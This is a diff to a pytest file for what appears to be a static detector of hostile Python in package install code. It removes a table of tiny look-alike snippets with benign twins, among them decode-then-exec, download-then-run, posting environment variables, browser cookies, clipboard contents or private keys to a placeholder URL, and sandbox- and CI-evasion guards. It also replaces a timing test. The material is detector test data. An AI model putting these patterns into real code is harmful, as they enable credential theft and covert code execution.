@@ -1,7 +1,6 @@
 """Each behaviour with a look-alike (inert) and a benign twin."""
 
 import pickle
-import time
 
 import pytest
 from hypothesis import given, settings
@@ -73,78 +72,6 @@ def test_a_call_is_known_under_every_name(source):
 )
 def test_a_name_that_only_looks_like_it_is_no_process(source):
     assert counts(source).get("call_execute_process", 0) == 0
-
-
-FINDINGS = [
-    ("decode_then_execute", f"import base64\nexec(base64.b64decode('{INNER}'))", "import base64\nx = base64.b64decode(a)\nexec(b)"),
-    ("decode_then_execute", "import base64, zlib\na = zlib.decompress(base64.b64decode(blob))\nb = a.decode()\neval(compile(b, '', 'exec'))", "import zlib\nprint(zlib.decompress(x))"),
-    ("decode_then_execute", "import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d(y))", "import base64\ndef d(x):\n    return base64.b64encode(x)\nexec(d(y))"),
-    ("decode_then_execute", "import base64\ndef run(code):\n    exec(code)\nrun(base64.b64decode(x))", "def run(code):\n    exec(code)\nrun('1')"),
-    ("download_then_execute", "import requests\nexec(requests.get(u).text)", "import requests\nprint(requests.get(u).text)"),
-    ("download_then_execute", "from urllib.request import urlopen as o\nwith o(u) as f:\n    c = f.read()\nexec(c)", "exec('1')"),
-    ("build_then_execute", "exec(''.join(chr(ord(c) ^ k) for c in t))", "print(''.join(chr(c) for c in t))"),
-    ("file_then_execute", "exec(open('x').read())", "x = open('x').read()"),
-    ("deserialize_then_execute", "import marshal\nexec(marshal.loads(x))", "import marshal\nmarshal.loads(x)"),
-    ("decode_then_deserialize", "import pickle, base64\npickle.loads(base64.b64decode(x))", "import pickle\npickle.loads(x)"),
-    ("decode_then_run", "import os, base64\nos.system(base64.b64decode(x).decode())", "import os\nos.system('ls')"),
-    ("network_to_process", "import socket, subprocess\ns = socket.socket()\ns.connect(a)\nsubprocess.run(s.recv(9))", "import socket\ns = socket.socket()\ns.recv(9)"),
-    ("build_then_run", "import os\nos.system(chr(105) + chr(x))", "import os\nos.system('i' + 'd')"),
-    ("decode_to_file", "import base64\nopen('x', 'wb').write(base64.b64decode(y))", "open('x', 'wb').write(y)"),
-    ("download_to_file", "import requests\nwith open('x', 'wb') as f:\n    f.write(requests.get(u).content)", "with open('x', 'wb') as f:\n    f.write(u)"),
-    ("environment_to_network", "import os, requests\nrequests.post(u, json=dict(os.environ))", "import os, requests\nrequests.post(u, json={})\nos.environ['A']"),
-    ("environment_to_network", "from os import environ as e\nimport requests\nd = {'k': e.get('KEY')}\nrequests.post(u, data=d)", "import requests\nd = {'k': 1}\nrequests.post(u, data=d)"),
-    ("host_to_network", "import socket, urllib.request\nh = socket.gethostname()\nurllib.request.urlopen(f'http://a.example.invalid/{h}')", "import urllib.request\nurllib.request.urlopen('http://a.example.invalid/')"),
-    ("file_to_network", "import requests\nrequests.post(u, files={'f': open('x', 'rb')})", "import requests\nrequests.post(u)"),
-    ("secrets_to_network", "import browser_cookie3, requests\nc = list(browser_cookie3.load())\nrequests.post(u, data=c)", "import browser_cookie3\nbrowser_cookie3.load()"),
-    ("spying_to_network", "import pyperclip, requests\nrequests.post(u, data=pyperclip.paste())", "import pyperclip\npyperclip.paste()"),
-    ("process_to_network", "import subprocess, requests\nrequests.post(u, data=subprocess.check_output('id'))", "import subprocess\nsubprocess.check_output('id')"),
-    ("hidden_name", "import os\ngetattr(os, 'sys' + 'tem')", "getattr(a, 'colour' + 'ed')"),
-    ("decoded_address", f"import requests, base64\nrequests.get(base64.b64decode('{INNER}').decode())", "import requests, base64\nrequests.get(base64.b64encode(x))"),
-    ("silent_network", "import requests\ntry:\n    requests.get(u)\nexcept Exception:\n    pass", "import requests\ntry:\n    requests.get(u)\nexcept Exception:\n    raise"),
-    ("silent_process", "import os\ntry:\n    os.system('id')\nexcept:\n    pass", "import os\nos.system('id')"),
-    ("guarded_system", "import os, platform\nif platform.system() == 'Windows':\n    os.system('id')", "import os\nif a:\n    os.system('id')"),
-    ("guarded_system", "import os\ndef go():\n    os.system('id')\nif os.name == 'nt':\n    go()", "import os\ndef go():\n    print('id')\nif os.name == 'nt':\n    go()"),
-    ("guarded_system", "import os, sys\ndef go():\n    if sys.platform != 'win32':\n        return\n    os.system('id')", "import os, sys\ndef go():\n    if sys.platform != 'win32':\n        print('no')\n    os.system('id')"),
-    ("guarded_system", "import os, platform\ns = platform.system()\nif s == 'Windows':\n    os.system('id')", "import os, platform\ns = platform.python_version()\nif s == '3':\n    os.system('id')"),
-    ("guarded_ci", "import os\nif not os.getenv('CI'):\n    os.system('id')", "import os\nif not os.getenv('CI'):\n    print('id')"),
-    ("guarded_ci", "import os, requests\nif 'GITHUB_ACTIONS' in os.environ:\n    requests.post(u)", "import os, requests\nif 'CI' in text:\n    requests.post(u)"),
-    ("guarded_user", "import os, getpass\nif getpass.getuser() != 'me':\n    os.system('id')", "import os, getpass\nif getpass.getuser() != 'me':\n    os.getcwd()"),
-    ("guarded_user", "import os\nif os.environ.get('USERNAME') == 'x':\n    os.remove(p)", "import os\nif os.environ.get('DEBUG') == 'x':\n    os.remove(p)"),
-    ("guarded_time", "import os, datetime\nif datetime.datetime.now().month > 6:\n    os.system('id')", "import os, time\nif time.time() > last:\n    os.system('id')"),
-    ("guarded_locale", "import os, locale\nif locale.getdefaultlocale()[0] == 'xx_XX':\n    os.system('id')", "import os, locale\nif locale.getdefaultlocale()[0]:\n    print('id')"),
-    ("guarded_analysis", "import os, sys\nif sys.gettrace():\n    os._exit(0)\nos.system('id')", "import os, sys\nif sys.gettrace():\n    print('traced')\nos.system('id')"),
-    ("guarded_analysis", "import os\nif not is_sandboxed():\n    os.system('id')", "import os\nif not is_ready():\n    os.system('id')"),
-    ("guarded_online", "import os\nif check_internet():\n    os.system('id')", "import os\nif check_input():\n    os.system('id')"),
-    ("guarded_file", "import os\nif os.path.exists(p):\n    os.system('id')", "import os\nif os.path.exists(p):\n    os.remove(p)"),
-    ("download_then_run", "import requests, subprocess\np = d / 'x.exe'\nwith open(p, 'wb') as f:\n    f.write(requests.get(u).content)\nsubprocess.run([str(p)])", "import requests, subprocess\np = d / 'x.tar'\nwith open(p, 'wb') as f:\n    f.write(requests.get(u).content)\nsubprocess.run(['tar', 'xf', str(p)])"),
-    ("download_then_run", "from urllib.request import urlretrieve\nimport os\nurlretrieve(u, 'a/x.sh')\nos.system('bash a/x.sh')", "from urllib.request import urlretrieve\nimport os\nurlretrieve(u, 'a/x.sh')\nos.system('cat a/x.sh')"),
-    ("download_then_run", "import os, urllib.request\nf = os.path.join(t, 'x.exe')\nurllib.request.urlretrieve(u, f)\nos.startfile(f)", "import os, urllib.request\nf = os.path.join(t, 'x.exe')\ng = os.path.join(t, 'y.exe')\nurllib.request.urlretrieve(u, f)\nos.startfile(g)"),
-    ("drop_then_run", "import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b'import os  # inert, and long enough to be code\\nprint(os.getcwd())')\nos.system(f'start pythonw {t.name}')", "import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b'some words and nothing else in this file, on and on')\nos.system(f'cat {t.name}')"),
-    ("drop_then_run", "import base64, subprocess\nopen('x.py', 'wb').write(base64.b64decode(y))\nsubprocess.Popen(['python', 'x.py'])", "import base64, subprocess\nopen('x.png', 'wb').write(base64.b64decode(y))\nsubprocess.Popen(['python', 'x.py'])"),
-    ("own_key_decrypt", f"from cryptography.fernet import Fernet\nk = 'abcdefghijklmnopqrstuvwxyz0123456789abcdefg='\nexec(Fernet(k).decrypt(b'{INNER * 2}'))", f"from cryptography.fernet import Fernet\nFernet(k).decrypt(b'{INNER * 2}')"),
-    ("own_key_decrypt", f"from Crypto.Cipher import AES\nc = AES.new(b'0123456789abcdef', AES.MODE_ECB)\nc.decrypt(b'{INNER * 2}')", "from Crypto.Cipher import AES\nc = AES.new(b'0123456789abcdef', AES.MODE_ECB)\nc.decrypt(data)"),
-    ("keys_to_network", "import requests\ndef f(private_key):\n    requests.post(u, json={'k': private_key})", "import requests\ndef f(public_key):\n    requests.post(u, json={'k': public_key})"),
-    ("keys_to_network", "import requests\nd = {'m': wallet.mnemonic}\nrequests.post(u, json=d)", "import requests\nd = {'m': wallet.address}\nrequests.post(u, json=d)"),
-    ("patches_library", "import requests, solders.keypair as s\nold = s.Keypair.from_seed\ndef new(x):\n    requests.post(u, data=x)\n    return old(x)\ns.Keypair.from_seed = new", "import json\nold = json.dumps\ndef new(x):\n    return old(x, indent=1)\njson.dumps = new"),
-    ("patches_library", "import os, json\ndef fake(*a):\n    os.system('id')\nsetattr(json, 'dumps', fake)", "import os, json\ndef fake(*a):\n    os.getcwd()\nsetattr(json, 'dumps', fake)"),
-    ("edits_package", "import site, os\nfor d in site.getsitepackages():\n    p = os.path.join(d, 'demo', '__init__.py')\n    with open(p, 'a') as f:\n        f.write('x')", "import site, os\nfor d in site.getsitepackages():\n    p = os.path.join(d, 'demo', '__init__.py')\n    with open(p, 'r') as f:\n        f.read()"),
-    ("edits_package", "import requests, os\nopen(os.path.join(os.path.dirname(requests.__file__), 'api.py'), 'a').write('x')", "import os\nopen(os.path.join(os.path.dirname(__file__), 'api.py'), 'a').write('x')"),
-    ("patches_library", "import builtins, os\ndef fake(*a):\n    os.system('id')\nbuiltins.print = fake", "import os\nclass A:\n    pass\ndef fake(*a):\n    os.system('id')\nA.go = fake"),
-    ("hidden_window", "import subprocess\nsubprocess.Popen('x', creationflags=subprocess.CREATE_NO_WINDOW)", "import subprocess\nsubprocess.Popen('x', creationflags=0)"),
-    ("hidden_window", "import subprocess\nsubprocess.Popen('x', creationflags=0x08000000)", "import subprocess\nsubprocess.Popen('x')"),
-    ("detached_process", "import subprocess\nsubprocess.Popen('x', start_new_session=True)", "import subprocess\nsubprocess.Popen('x', shell=True)"),
-    ("self_delete", "import os\nos.remove(__file__)", "import os\nos.remove(path)"),
-    ("aliased_builtin", "e = exec\ne('1')", "exec('1')"),
-    ("pip_install", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])", "import subprocess\nsubprocess.run(['make', 'install'])"),
-    ("pip_install", "import os\nos.system('pip install x')", "import os\nos.system('make install')"),
-    ("unpacked_code", f"x = '{INNER}'", "x = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'"),
-]  # fmt: skip
-
-
-@pytest.mark.parametrize(("finding", "look_alike", "twin"), FINDINGS)
-def test_a_finding_sees_the_look_alike_and_not_its_twin(finding, look_alike, twin):
-    assert counts(look_alike).get("finding_" + finding, 0) >= 1
-    assert counts(twin).get("finding_" + finding, 0) == 0
 
 
 RUNS_AT_INSTALL = [
@@ -304,10 +231,10 @@ def test_nesting_that_a_parser_dies_of_is_a_reason(source):
         "\n".join(f"a{n} = a{n - 1} + a{n - 1}" for n in range(1, 3000)) + "\na0 = 'aaaa'\nexec(a2999)",
     ],
 )
-def test_time_is_bounded_whatever_the_file(source):
-    begin = time.process_time()
-    analyse_file(source.encode(), Role.INSTALL)
-    assert time.process_time() - begin < 10
+@pytest.mark.timeout(60)
+def test_the_analysis_ends_whatever_the_file(source):
+    analysis = analyse_file(source.encode(), Role.INSTALL)
+    assert analysis.parsed or analysis.reason in {"depth", "syntax", "size"}
 
 
 @pytest.mark.parametrize(
